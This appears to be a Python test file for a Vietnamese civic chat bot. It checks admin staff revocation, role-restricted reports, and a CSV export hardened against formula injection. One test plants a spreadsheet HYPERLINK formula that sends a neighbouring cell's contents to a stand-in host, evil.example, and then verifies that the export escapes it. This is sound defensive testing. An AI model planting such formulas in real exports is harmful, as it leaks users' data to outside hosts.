"""Admins manage staff in the chat (/staff, /revoke); staff read figures (/report) and take
the data away (/export, a CSV whose cells cannot run as formulas)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from bot.app import App
from tests.chat import Chat, answer_until, register
from tests.conftest import make_settings, started_app
from tests.verification_helpers import (
    RecordingDeliverer,
    coordinator,
    declaration_id,
    sender,
    submitted,
)


async def test_an_admin_lists_and_revokes_staff_in_the_chat(tmp_path: Path) -> None:
    app = await started_app(make_settings(tmp_path, admins="console:boss"))
    try:
        coord = await coordinator(app, "coord")
        await submitted(app, "citizen")
        number = await declaration_id(app)
        await coord.send(f"/review {number}")
        boss = Chat(app.engine, user="boss", channel="console")
        await boss.send("/staff")
        boss.expect(
            "• Tài khoản kênh chạy thử trên máy chưa đặt tên: quản trị viên (được đặt trong cấu"
            " hình của máy chủ)",
            "#1 Cán bộ coord (kênh khác): cán bộ phụ trách, địa bàn: Phường Lê Chân (đang hoạt "
            "động)",
        )
        # officials read names and channels in words, never account ids or settings' names
        assert "test:coord" not in boss.text and "console:boss" not in boss.text
        assert "CDHT_" not in boss.text
        await boss.send("/revoke")
        boss.expect("Cách dùng: /revoke")
        await boss.send("/revoke 99")
        boss.expect("Không có cán bộ số #99")
        await boss.send("/revoke 1")
        boss.expect("Đã thu hồi quyền của #1 Cán bộ coord (kênh khác)")
        assert "test:coord" not in boss.text
        await boss.send("/revoke 1")
        boss.expect("đã bị thu hồi quyền từ trước")
        async with app.store.transaction() as uow:
            held = await uow.declarations.get(number)
        assert held is not None
        assert held.claimed_by is None  # the review went back to the queue
        deliverer = RecordingDeliverer()
        await sender(app, deliverer).flush()
        assert any("đã được thu hồi" in d.text for d in deliverer.to("coord"))
        await coord.send("/queue")
        coord.expect("chỉ dành cho cán bộ")
        # a configured admin is revoked by editing CDHT_ADMINS, not in the chat
        await boss.send(f"/review {number}")
        await boss.send("/cancel")
        async with app.store.transaction() as uow:
            record = await uow.staff.by_account("console", "boss")
        assert record is not None
        assert record.role == "none"  # the claim's record grants nothing
        await boss.send(f"/revoke {record.id}")
        boss.expect(f"Không có cán bộ số #{record.id}")
    finally:
        await app.close()


async def test_a_coordinator_reads_the_wards_figures(app: App) -> None:
    coord = await coordinator(app, "coord")
    await submitted(app, "one")
    await register(Chat(app.engine, user="two"))
    await coord.send("/report")
    coord.expect(
        "Số liệu năm", "địa bàn Phường Lê Chân", "Đã đăng ký: 2", "Chưa bắt đầu tự đánh giá: 1",
        "Đã nộp, chờ xác nhận: 1",
    )  # fmt: skip
    citizen = Chat(app.engine, user="two")
    await citizen.send("/report")
    citizen.expect("chỉ dành cho cán bộ")


async def test_an_export_in_the_chat_is_a_csv_without_live_formulas(app: App) -> None:
    coord = await coordinator(app, "coord")
    citizen = Chat(app.engine, user="attacker")
    await answer_until(
        citizen, None, residential_group='=HYPERLINK("http://evil.example/?"&B2,"Bấm vào")'
    )
    citizen.expect("đăng ký thành công")
    await coord.send("/export csv")
    coord.expect("Đang chuẩn bị tệp dữ liệu (1 dòng)")
    deliverer = RecordingDeliverer()
    await sender(app, deliverer).flush()
    (sent,) = [d for d in deliverer.to("coord") if d.file is not None]
    assert sent.file is not None
    assert sent.file.name.startswith(f"cdht-{datetime.now(UTC).year}")
    assert sent.file.mime_type == "text/csv"
    rows = list(csv.DictReader(io.StringIO(sent.file.path.read_text(encoding="utf-8-sig"))))
    assert rows[0]["residential_group"] == '\'=HYPERLINK("http://evil.example/?"&B2,"Bấm vào")'
    assert rows[0]["phone"] == "'+84912345678"  # a leading + is a formula trigger too
    assert "Phường Lê Chân" in sent.text
